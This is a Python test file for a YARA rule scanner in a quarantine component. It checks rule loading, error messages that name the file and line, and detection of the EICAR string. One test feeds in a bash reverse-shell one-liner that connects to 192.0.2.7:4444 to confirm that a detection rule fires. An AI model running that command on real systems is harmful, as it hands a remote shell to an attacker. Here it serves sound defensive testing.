"""Rule files: which are taken, and what is said about a bad one."""

import os
from pathlib import Path

import pytest
from tests.unit.host.quarantine.kit import EICAR, RULE

from farhand.host.quarantine.yara import OWN_RULES, RuleScanner, RulesError, load_rules


def test_no_own_rule_file_sets_off_a_scanner() -> None:
    scanner = RuleScanner(load_rules(), 30)
    for path in OWN_RULES.iterdir():
        assert scanner.scan(path.read_bytes()) == []
    assert scanner.scan(EICAR) == [RULE]


def test_rules_for_small_and_for_large_files_are_the_same() -> None:
    scanner = RuleScanner(load_rules(), 30)
    script = b"bash -i >& /dev/tcp/192.0.2.7/4444 0>&1\n"
    assert scanner.scan(script) == scanner.scan(script + b" " * 100_000) == ["Shell_to_a_stranger"]


@pytest.mark.parametrize(
    ("text", "line", "said"),
    [
        (b"rule a {\n condition: foo\n}", 2, "unknown identifier"),
        (b'rule a { strings: $x = "\\R" condition: $x }', 1, "escape"),
        (b"\n\nrule a { condition: true and }", 3, "syntax error"),
        (b'\nimport "nothing"\nrule a { condition: true }', 2, "module"),
        (b'include "../../etc/passwd"', 1, "include"),
        (b"rule a { condition: true }\nrule a { condition: true }", 2, "duplicate"),
        (b"rule a { condition: true }\n// \xff", 2, "UTF-8"),
    ],
)
def test_a_bad_file_is_named_with_its_line(tmp_path: Path, text: bytes, line: int, said: str) -> None:
    (tmp_path / "a.yar").write_text("rule good { condition: false }")
    (tmp_path / "b.yar").write_bytes(text)
    with pytest.raises(RulesError) as caught:
        load_rules(tmp_path)
    assert f"{tmp_path}/b.yar, line {line}: " in caught.value.cause
    assert said in caught.value.cause
    assert caught.value.cure


def test_two_files_may_have_a_rule_of_one_name(tmp_path: Path) -> None:
    for name in ("a.yar", "b.yara", "notes.txt"):
        (tmp_path / name).write_text("rule same { condition: true }")
    os.utime(tmp_path / "a.yar", (1_000_000, 1_000_000))
    os.utime(tmp_path / "b.yara", (2_000_000, 2_000_000))
    rules = load_rules(tmp_path)
    assert (rules.files, rules.newest) == (2, 2_000_000)
    assert rules.age_days(now=2_000_000 + 3 * 86400 + 5) == 3
    assert RuleScanner(rules, 30).scan(b"x") == ["same", "same"]


def test_a_folder_without_rules(tmp_path: Path) -> None:
    with pytest.raises(RulesError, match=r"no \.yar"):
        load_rules(tmp_path)
    with pytest.raises(RulesError, match="cannot be read"):
        load_rules(tmp_path / "nowhere")
